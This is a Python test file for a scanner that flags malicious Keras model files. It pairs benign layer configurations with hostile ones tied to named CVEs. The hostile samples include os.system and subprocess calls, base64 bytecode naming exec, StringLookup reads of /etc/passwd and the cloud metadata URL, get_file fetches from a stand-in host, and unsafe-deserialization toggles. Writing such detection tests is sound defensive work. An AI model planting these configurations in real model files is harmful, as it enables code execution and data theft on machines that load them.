import base64
import json
import pickle
from typing import Any

import pytest

from scanners.findings import Verdict
from tests.builders import hdf5
from tests.builders.keras import DENSE, keras_file, layer, sequential
from tests.scanners.rules.examples import Example, scan_files


def _twins(*layers: dict[str, Any], good: dict[str, Any] = DENSE) -> Example:
    return Example(
        bad=lambda: {"m.keras": keras_file(sequential(*layers))}, good=lambda: {"m.keras": keras_file(sequential(good))}
    )


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


CUSTOM = layer("Scale", module=None, registered_name="my>Scale")

EXAMPLES = {
    "MS501": _twins(layer("Lambda", {"function": "lambda x: x * 2"})),
    "MS502": _twins(layer("system", {"command": "id"}, module="os")),
    "MS503": _twins(layer("Dense", {"activation": _function("keras.utils", "get_file")})),
    "MS504": _twins(layer("TFSMLayer", {"filepath": "/tmp/model"})),
    "MS505": _twins(layer("TorchModuleWrapper", {"module": ""})),
    "MS506": _twins(
        layer("StringLookup", {"vocabulary": "/etc/passwd"}), good=layer("StringLookup", {"vocabulary": ["a"]})
    ),
    "MS507": _twins(layer("Scale", module="my_project.layers")),
}


def verdict(*layers: dict[str, Any], **more: Any) -> Verdict:
    return scan_files({"m.keras": keras_file(sequential(*layers, **more))}).verdict


@pytest.mark.parametrize(
    "one",
    [
        DENSE,
        CUSTOM,
        layer("Scale", module="__main__"),
        layer("Dense", {"activation": _function("builtins", "relu")}),
        layer("Dense", {"activation": _function("keras.activations", "gelu")}),
        layer("Dense", {"activation": _function("builtins", "my_loss")}),
        layer("Adam", module="keras.src.optimizers.adam"),
        layer("GPT2Backbone", module="keras_hub.src.models.gpt2.gpt2_backbone"),
        layer("Functional", module="tensorflow.python.keras.engine.functional"),
        layer("Normalization", {"mean": {"class_name": "__numpy__", "config": {"value": [1], "dtype": "float32"}}}),
    ],
)
def test_what_ordinary_models_consist_of_is_clean(one: dict[str, Any]) -> None:
    assert verdict(one) is Verdict.CLEAN


@pytest.mark.parametrize("old", [False, True])
def test_the_same_configuration_in_an_h5_file_gets_the_same_verdict(old: bool) -> None:
    bad = sequential(layer("Lambda", {"function": "lambda x: eval('1')"}))
    assert scan_files({"m.h5": hdf5.weights({"model_config": bad}, old=old)}).verdict is Verdict.MALICIOUS
    assert scan_files({"m.h5": hdf5.weights({"model_config": sequential(DENSE)}, old=old)}).verdict is Verdict.CLEAN


def test_cve_2024_3660_lambda_layer_with_bytecode() -> None:
    code = base64.b64encode(b"\xe3\0z\x02os\xda\x06system").decode()
    assert verdict(layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": code}}})) is (
        Verdict.MALICIOUS
    )


def test_a_lambda_that_only_computes_is_suspicious_because_code_travels() -> None:
    assert verdict(layer("Lambda", {"function": "lambda x: x * 2"})) is Verdict.SUSPICIOUS


def test_cve_2025_1550_any_module_in_config_json() -> None:
    assert verdict(layer("run", {"args": ["id"]}, module="subprocess")) is Verdict.MALICIOUS
    assert verdict(layer("Dense", {"activation": _function("os", "system")})) is Verdict.MALICIOUS


def test_pwq7_2gvj_vg9v_any_class_of_an_installed_library() -> None:
    assert verdict(layer("getlincoef", module="numpy.f2py.crackfortran")) is Verdict.MALICIOUS
    assert verdict(layer("Something", module="scipy.unheard_of")) is Verdict.SUSPICIOUS


def test_cve_2025_8747_get_file_gadget() -> None:
    gadget = _function("keras.utils", "get_file")
    assert verdict(layer("Lambda", {"function": gadget, "arguments": {"origin": "http://h/x"}})) is Verdict.MALICIOUS


def test_cve_2025_9905_lambda_in_h5_ignores_safe_mode() -> None:
    function = [base64.b64encode(b"\xe3z\x04exec").decode(), None, None]
    layers = [{"class_name": "Lambda", "config": {"function": function, "function_type": "lambda"}}]
    config = json.dumps({"class_name": "Sequential", "config": layers}).encode()
    assert scan_files({"m.h5": hdf5.weights({"model_config": config})}).verdict is Verdict.MALICIOUS


def test_cve_2025_9906_config_enables_unsafe_deserialization() -> None:
    gadget = layer("enable_unsafe_deserialization", module="keras.config")
    assert verdict(gadget) is Verdict.MALICIOUS
    assert verdict(DENSE, compile_config={"loss": _function("keras.config", "enable_unsafe_deserialization")}) is (
        Verdict.MALICIOUS
    )


def test_cve_2025_49655_torch_module_wrapper() -> None:
    assert verdict(layer("TorchModuleWrapper", {"module": base64.b64encode(pickle.dumps(1)).decode()})) is (
        Verdict.MALICIOUS
    )


def test_cve_2025_12058_string_lookup_reads_files_and_urls() -> None:
    assert verdict(layer("StringLookup", {"vocabulary": "/etc/passwd"})) is Verdict.MALICIOUS
    assert verdict(layer("StringLookup", {"vocabulary": "http://169.254.169.254/latest"})) is Verdict.MALICIOUS
    assert verdict(layer("TextVectorization", {"vocabulary": "words.txt"})) is Verdict.SUSPICIOUS


def test_cve_2025_12060_get_file_unpacks_outside() -> None:
    assert verdict(
        layer("get_file", {"origin": "http://h/x.tar", "extract": True}, module="keras.src.utils.file_utils")
    ) is (Verdict.MALICIOUS)


def test_cve_2026_1462_tfsm_layer_loads_a_saved_model() -> None:
    assert verdict(layer("TimeDistributed", {"layer": layer("TFSMLayer", {"filepath": "x"})})) is Verdict.MALICIOUS


def test_a_keras_archive_is_known_by_its_members_whatever_it_is_called() -> None:
    bad = keras_file(sequential(layer("Lambda", {"function": "lambda x: eval(x)"})))
    assert scan_files({"weights.bin": bad}).verdict is Verdict.MALICIOUS


def test_a_registered_name_does_not_excuse_a_module_of_the_standard_library() -> None:
    assert verdict(layer("Thread", module="threading", registered_name="my>Thread")) is Verdict.MALICIOUS
